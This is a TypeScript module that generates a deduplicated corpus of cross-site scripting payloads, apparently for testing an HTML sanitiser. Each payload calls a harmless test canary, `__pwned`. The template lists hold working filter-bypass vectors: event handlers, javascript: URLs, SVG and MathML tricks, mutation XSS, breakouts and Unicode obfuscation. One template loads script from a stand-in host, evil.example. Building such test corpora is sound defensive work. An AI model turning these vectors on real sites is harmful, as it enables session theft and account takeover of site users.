/** Script payloads: each calls `__pwned`, which only tests define. */
const calls = [
  '__pwned()',
  'window.__pwned?.()',
  "top['__pw'+'ned']()",
  'self.__pwned``',
  "eval('__pwned()')",
  "Function('__pwned()')()",
  "[].constructor.constructor('__pwned()')()",
  "setTimeout('__pwned()')",
  '\\u005f\\u005fpwned()',
  '&#95;&#95;pwned&#40;&#41;',
  '&#x5f;&#x5f;pwned&lpar;&rpar;',
  'alert(__pwned())',
]

/** Every template with every payload. */
const combine = (shapes: readonly string[], words: readonly string[]) =>
  shapes.flatMap((shape) => words.map((word) => shape.replaceAll('§', word)))

const scripts = combine(
  [
    '<script>§</script>',
    '<ScRiPt>§</sCrIpT >',
    '<script\n>§</script\t>',
    '<script/x>§</script>',
    '<script type=module>§</script>',
    '<script src="data:text/javascript,§"></script>',
    '<script src=//evil.example/§></script>',
    '<scr<script>ipt>§</scr</script>ipt>',
    '<<script>script>§<</script>/script>',
    '<script>/*<!--*/§//--></script>',
    '<script>//\u2028§</script>',
    '%3Cscript%3E§%3C/script%3E',
    '&lt;script&gt;§&lt;/script&gt;',
    '<script nonce="">§</script>',
  ],
  calls,
)

const handlers = combine(
  [
    '<img src=x onerror="§">',
    "<img/src='x'/onerror='§'>",
    '<IMG SRC=x OnErRoR=§>',
    '<img src=x onerror\n=\n"§">',
    '<img src=x onerror&#61;"§">',
    '<img src=x:x onerror="§"//',
    '<image src=x onerror="§">',
    '<body onload="§">',
    '<input autofocus onfocus="§">',
    '<select autofocus onfocus="§"><option>x</select>',
    '<details open ontoggle="§">x</details>',
    '<video onerror="§"><source></video>',
    '<audio src onloadstart="§">',
    '<marquee onstart="§">x</marquee>',
    '<div style="animation:x" onanimationstart="§">x</div>',
    '<div contenteditable autofocus onfocus="§" tabindex=1>x</div>',
    '<button popovertarget=p>x</button><div popover id=p onbeforetoggle="§">x</div>',
    '<x onpointerover="§" style="position:fixed;inset:0">x</x>',
    '<a onclick="§" autofocus onfocus="§" href=#>x</a>',
    '<iframe onload="§"></iframe>',
    '<object onerror="§" data=x></object>',
    '<link rel=stylesheet href=x onerror="§">',
    '<style onload="§"></style>',
    '<form onformdata="§" oninput="§"><input></form>',
    '<keygen autofocus onfocus="§">',
  ],
  calls,
)

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'javascript:%0a',
  'javascript://%0a',
  'vbscript:',
  'data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4#',
  'data:text/html,<script>__pwned()</script>#',
  'data:image/svg+xml,<svg onload=__pwned()>#',
  'blob:javascript:',
  'feed:javascript:',
]

const urls = combine(
  [
    '<a href="§__pwned()">点此查看</a>',
    "<a href='§__pwned()' target=_top>点此查看</a>",
    '<area href="§__pwned()">',
    '<iframe src="§__pwned()"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.__pwned()&lt;/script&gt;" src="§"></iframe>',
    '<form action="§__pwned()"><input type=submit autofocus></form>',
    '<button form=x formaction="§__pwned()">x</button>',
    '<object data="§__pwned()"></object>',
    '<embed src="§__pwned()">',
    '<base href="§__pwned()//">',
    '<meta http-equiv=refresh content="0;url=§__pwned()">',
    '<img src="§__pwned()">',
    '<link rel=import href="§__pwned()">',
    '<svg><a xlink:href="§__pwned()"><text x=9 y=9>x</text></a></svg>',
    '<math href="§__pwned()">x</math>',
    '[点此查看](§__pwned())',
    '§__pwned()',
  ],
  schemes,
)

const vectors = combine(
  [
    '<svg onload="§">',
    '<svg/onload=§>',
    '<svg><script>§</script></svg>',
    '<svg><script href="data:text/javascript,§" /></svg>',
    '<svg><animate onbegin="§" attributeName=x dur=1s></svg>',
    '<svg><set onbegin="§" attributeName=x></svg>',
    '<svg><a><animate attributeName=href values="javascript:§" /><text x=9 y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=§>#x"></use></svg>',
    '<svg><foreignObject><img src=x onerror="§"></foreignObject></svg>',
    '<svg><style><img src=x onerror="§"></style></svg>',
    '<svg><title><img src=x onerror="§"></title></svg>',
    '<svg><desc><svg onload="§"></desc></svg>',
    '<math><mi xlink:href="javascript:§">x</mi></math>',
    '<math><maction actiontype=statusline xlink:href="javascript:§">x</maction></math>',
  ],
  calls,
)

/** Mutation XSS: parsers and serialisers disagree about the markup. */
const mutations = combine(
  [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="§">',
    '<svg></p><style><a title="</style><img src=x onerror=§>">',
    '<noscript><p title="</noscript><img src=x onerror=§>">',
    '<textarea><p title="</textarea><img src=x onerror=§>">',
    '<title><p title="</title><img src=x onerror=§>">',
    '<xmp><p title="</xmp><img src=x onerror=§>">',
    '<noembed><p title="</noembed><img src=x onerror=§>">',
    '<!--><img src=x onerror="§">-->',
    '<!--[if gte IE 4]><script>§</script><![endif]-->',
    '<![CDATA[<img src=x onerror="§">]]>',
    '<?xml-stylesheet href="javascript:§"?><img src=x onerror="§">',
    '<table><td background="javascript:§"><a id=x tabindex=1 onfocus="§">',
    '<select><template><img src=x onerror="§"></template></select>',
    '<p id=attributes><p id=innerHTML name=parentNode><img src=x onerror="§">',
    '<form id=x><input name=attributes><input name=childNodes></form><img src=x onerror="§">',
    '<template shadowrootmode=open><img src=x onerror="§"></template>',
    '<div><b x="<a y=`z"><img src=x onerror="§">`></b></div>',
  ],
  calls,
)

/** Breakouts from attributes, elements and strings. */
const breakouts = combine(
  [
    '"><img src=x onerror=§>',
    "'><img src=x onerror=§>",
    '`><img src=x onerror=§>',
    '" autofocus onfocus=§ x="',
    "' autofocus onfocus=§ x='",
    '</textarea><svg onload=§>',
    '</title><svg onload=§>',
    '</style><svg onload=§>',
    '</script><script>§</script>',
    '--><svg onload=§>',
    ']]><svg onload=§>',
    '";§;//',
    "';§;//",
    '`;§;//',
    '\\";§;//',
    '${§}',
    '}</style><script>§</script>',
    'x\r\nContent-Type: text/html\r\n\r\n<script>§</script>',
  ],
  calls,
)

const templates = combine(
  [
    '{{§}}',
    '{{constructor.constructor("§")()}}',
    '${§}',
    '#{§}',
    '<%= § %>',
    '{%raw%}§{%endraw%}',
    '[[§]]',
    '*{§}',
    '<div ng-app ng-csp>{{$on.constructor("§")()}}</div>',
    '<div v-html="§" :onclick="§" @click="§">x</div>',
    '<template><script>§</script></template>',
    '{"__proto__":{"innerHTML":"<img src=x onerror=§>"}}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=§>"}}',
  ],
  calls,
)

/** Homoglyphs, invisible characters and bidirectional overrides. */
const unicode = combine(
  [
    '＜script＞§＜/script＞',
    '﹤img src=x onerror=§﹥',
    '<\u200bscript>§</script>',
    '<scr\u00adipt>§</scr\u00adipt>',
    '\u202e<img src=x onerror=§>\u202c',
    '\ufeff<svg onload=§>',
    '<img\u00a0src=x\u3000onerror=§>',
    '<img\u000csrc=x\u000bonerror=§>',
    '<ſcript>§</ſcript>',
    '\u2028<svg onload=§>\u2029',
    '𬱖<img src=x onerror=§>',
    '<a href="ｊavascript:§">x</a>',
    'ʺ><svg onload=§>',
    '‹svg onload=§›',
    '\u0001<svg onload=§>',
  ],
  calls,
)

const styles = combine(
  [
    '<div style="background:url(javascript:§)">x</div>',
    '<div style="width:expression(§)">x</div>',
    '<div style="behavior:url(#default#time2)" onbegin="§">x</div>',
    '<style>@import "javascript:§";</style>',
    '<style>*{background:url("javascript:§")}</style>',
    '<style><!--</style><script>§//--></script>',
    '<link rel=stylesheet href="data:text/css,*%7bx:expression(§)%7d">',
  ],
  calls,
)

/** XSS payloads for HTML, CSS, URL and script contexts. */
export const payloads: readonly string[] = [
  ...new Set([
    ...scripts,
    ...handlers,
    ...urls,
    ...vectors,
    ...mutations,
    ...breakouts,
    ...templates,
    ...unicode,
    ...styles,
  ]),
]
